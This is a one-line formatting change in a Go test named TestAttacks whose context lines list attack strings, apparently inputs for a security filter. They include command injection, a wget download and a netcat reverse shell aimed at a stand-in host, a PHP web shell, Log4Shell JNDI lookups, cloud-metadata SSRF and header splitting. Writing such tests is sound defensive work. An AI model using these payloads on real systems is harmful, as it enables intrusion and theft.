@@ -68,7 +68,7 @@ func TestAttacks(t *testing.T) {
 		"cat": "; cat /etc/passwd", "backtick": "`id`; uname -a", "subshell": "$(wget http://192.0.2.66/x.sh)", "pipe": "| nc -e /bin/sh 192.0.2.66 4444",
 		"powershell": "powershell -enc SQBFAFgA", "php": "<?php system($_GET['c']); ?>", "php wrapper": "php://filter/convert.base64-encode/resource=index.php",
 		"remote file": "http://192.0.2.66/shell.php?", "jndi": "${jndi:ldap://192.0.2.66/a}", "hidden jndi": "${${lower:j}ndi:ldap://192.0.2.66/a}",
-		"node": "require('child_process').exec('id')",
+		"node":     "require('child_process').exec('id')",
 		"metadata": "http://169.254.169.254/latest/meta-data/", "java": "java.lang.Runtime.getRuntime().exec('id')",
 		"splitting": "x\r\nSet-Cookie: a=b",
 	} {
